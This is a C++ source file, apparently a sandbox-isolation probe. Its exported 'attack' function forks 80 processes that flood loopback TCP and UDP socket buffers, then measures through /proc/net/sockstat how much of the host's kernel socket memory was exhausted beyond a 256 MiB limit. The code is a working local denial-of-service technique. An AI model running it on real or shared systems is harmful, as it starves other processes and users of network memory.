#include <cstdio>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

static const int PROCESSES = 80; // five TCP ones for three UDP ones
static const long LIMIT = 256;
static char block[1 << 16];

static int bound(int kind, struct sockaddr_in *name) {
    int size = 1 << 30, door = socket(AF_INET, kind, 0);
    socklen_t length = sizeof *name;
    auto address = reinterpret_cast<struct sockaddr *>(name);
    *name = {};
    name->sin_family = AF_INET;
    name->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    setsockopt(door, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
    return bind(door, address, length) || getsockname(door, address, &length) ? -1 : door;
}

static void fill_connections() {
    struct sockaddr_in name;
    int size = 1 << 30, door = bound(SOCK_STREAM, &name);
    if (listen(door, 1024))
        return;
    for (int one; (one = socket(AF_INET, SOCK_STREAM, 0)) >= 0;) {
        setsockopt(one, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        if (connect(one, reinterpret_cast<struct sockaddr *>(&name), sizeof name) ||
            accept(door, nullptr, nullptr) < 0)
            break;
        while (send(one, block, sizeof block, MSG_DONTWAIT) > 0) {
        }
    }
}

static void fill_datagrams() {
    struct sockaddr_in name;
    for (int one; (one = bound(SOCK_DGRAM, &name)) >= 0;)
        // What does not fit is dropped, not refused: more than any buffer is sent.
        for (int i = 0; i < 12; i++)
            sendto(one, block, sizeof block / 2, MSG_DONTWAIT,
                   reinterpret_cast<struct sockaddr *>(&name), sizeof name);
}

// Of the whole machine: proc(5), /proc/net/sockstat; -1 where it does not say.
static long megabytes(const char *protocol) {
    char line[256];
    long pages = -1;
    FILE *file = fopen("/proc/net/sockstat", "r");
    while (file && fgets(line, sizeof line, file))
        if (const char *found = strncmp(line, protocol, 4) ? nullptr : strstr(line, "mem "))
            sscanf(found, "mem %ld", &pages);
    if (file)
        fclose(file);
    return pages < 0 ? -1 : pages * getpagesize() >> 20;
}

extern "C" long attack(long n) {
    int ready[2];
    char one;
    const long tcp = megabytes("TCP:"), udp = megabytes("UDP:");
    if (pipe(ready) || tcp < 0 || udp < 0)
        return -1;
    for (int i = 0; i < PROCESSES; i++)
        if (fork() == 0) {
            i % 8 < 5 ? fill_connections() : fill_datagrams();
            if (write(ready[1], "x", 1) != 1)
                _exit(2);
            for (;;)
                pause();
        }
    for (int i = 0; i < PROCESSES; i++)
        if (read(ready[0], &one, 1) != 1)
            return -2;
    const long more_tcp = megabytes("TCP:") - tcp, more_udp = megabytes("UDP:") - udp;
    printf("%ld MiB of the machine's TCP memory, %ld of its UDP memory\n", more_tcp, more_udp);
    const long taken = more_tcp + more_udp;
    return taken > LIMIT ? taken - LIMIT : 0;
}
